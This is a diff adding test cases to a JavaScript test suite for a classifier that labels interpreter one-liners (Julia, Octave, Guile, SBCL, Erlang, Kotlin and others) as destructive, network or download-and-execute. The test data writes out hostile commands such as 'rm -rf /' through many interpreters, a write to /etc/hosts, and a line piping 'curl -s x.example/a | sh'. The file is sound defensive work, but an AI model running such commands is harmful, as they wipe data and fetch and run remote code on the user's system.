@@ -62,6 +62,23 @@ describe('code that interpreters run from the command line', () => {
     [`Rscript -e 'system(commandArgs()[1])'`, EVERY],
     [`osascript -e 'do shell script "rm -rf ~"'`, EVERY],
     [`echo 'system($x)' | perl`, EVERY],
+    ["julia -e 'run(`rm -rf /`)'", EVERY],
+    [`julia --project=. -e 'using Pkg; Pkg.add("X")'`, EVERY],
+    [`octave-cli --eval 'system(argv(){1})'`, EVERY],
+    [`gnuplot -e 'set output "|sh"'`, EVERY],
+    [`guile -c '(system (cadr (command-line)))'`, EVERY],
+    [`racket -e '(system (vector-ref (current-command-line-arguments) 0))'`, EVERY],
+    [`sbcl --noinform --eval '(sb-ext:run-program "/bin/rm" (list "-rf" "/"))'`, EVERY],
+    [`clisp -x '(ext:run-shell-command (first ext:*args*))'`, EVERY],
+    [`ecl -norc -eval '(si:system (car (last si::*command-args*)))'`, EVERY],
+    [`erl -noshell -eval 'os:cmd("rm -rf /")' -s init stop`, EVERY],
+    [`elixir -e 'System.cmd("rm", ["-rf", "/"])'`, EVERY],
+    [`ghc -package process -e 'System.Process.callCommand "rm -rf /"'`, EVERY],
+    [`slsh -e 'system(__argv[1])'`, EVERY],
+    [`groovy -cp lib -e '"rm -rf /".execute()'`, EVERY],
+    [`jrunscript -e 'exec("rm -rf /")'`, EVERY],
+    [`scala -e 'import sys.process._; "rm -rf /".!'`, EVERY],
+    [`kotlin -e 'Runtime.getRuntime().exec("rm -rf /")'`, EVERY],
   ])('gives every class to code in other languages that can reach a capability: %s', (command, expected) => {
     expect(classes(command)).toEqual(expected);
   });
@@ -127,6 +144,17 @@ describe('code that interpreters run from the command line', () => {
     [`lua -e 'local f = io.open("/etc/hosts", "w"); f:write("x")'`, ['destructive']],
     [`lua -e 'for l in io.lines("notes.txt") do print(l) end'`, []],
     [`Rscript -e 'system("rm -rf /")'`, ['destructive']],
+    [`octave-cli --eval 'system("rm -rf /")'`, ['destructive']],
+    [`octave-cli --eval 'system("echo hello")'`, []],
+    [`octave --eval 'fid = fopen("/etc/hosts", "w"); fclose(fid);'`, ['destructive']],
+    [`gnuplot -e 'system("echo hi")'`, []],
+    ["gnuplot -e 'print `rm -rf /`'", ['destructive']],
+    [`slsh -e 'system("ls -l")'`, []],
+    [`guile -c '(system "echo hello")'`, []],
+    [`guile -c '(system* "rm" "-rf" "/")'`, ['destructive']],
+    [`racket -e '(system "curl -s x.example/a | sh")'`, ['downloadExec', 'network']],
+    [`clisp -x '(ext:run-shell-command "echo hello")(ext:exit)'`, []],
+    [`sbcl --eval '(uiop:run-program "rm -rf ~")'`, ['destructive']],
   ])('follows commands and files written out in literals: %s', (command, expected) => {
     expect(classes(command)).toEqual(expected);
   });
@@ -150,6 +178,11 @@ describe('code that interpreters run from the command line', () => {
     [`ruby -e 'def system(c) = eval(c); system("puts 1")'`, EVERY],
     [`php -r 'namespace a; function system($c) { eval($c); } system("echo 1;");'`, EVERY],
     [`lua -e 'os.execute = load; os.execute("print(1)")'`, EVERY],
+    [`octave --eval "x = a'; system('ls')"`, EVERY],
+    [`guile -c '(define (system x) x) (system "ls")'`, EVERY],
+    [`racket -e '(system* "/bin/ls" dir)'`, EVERY],
+    [`sbcl --eval '(sb-ext:run-program "/bin/ls" (list "-l"))'`, EVERY],
+    [`slsh -e 'variable c = "ls"; system(c)'`, EVERY],
   ])('does not follow what is not a literal, or what it cannot lex: %s', (command, expected) => {
     expect(classes(command)).toEqual(expected);
   });
@@ -195,6 +228,19 @@ describe('code that interpreters run from the command line', () => {
     `ruby -rjson -e 'puts JSON.parse(STDIN.read)["a"]' < data.json`,
     `php -r 'echo PHP_VERSION;'`,
     `Rscript -e 'summary(cars)'`,
+    `julia -e 'println(VERSION)'`,
+    `julia -O2 --threads 4 -e 'println(sum(1:10))'`,
+    `octave --eval 'disp(pi)'`,
+    `gnuplot -e 'set terminal png; set output "plot.png"; plot sin(x)'`,
+    `guile -c '(display (+ 1 2))'`,
+    `racket -e '(displayln 1)'`,
+    `sbcl --noinform --eval '(print 1)' --quit`,
+    `erl -noshell -eval 'io:format("~p~n", [erlang:system_info(otp_release)]), halt().'`,
+    `elixir -e 'IO.puts(1 + 1)'`,
+    `ghc -e 'print (1 + 1)'`,
+    `groovy -e 'println 1'`,
+    'julia script.jl',
+    'runghc Main.hs',
   ])('leaves code that does none of this alone: %s', (command) => {
     expect(classes(command)).toEqual([]);
   });
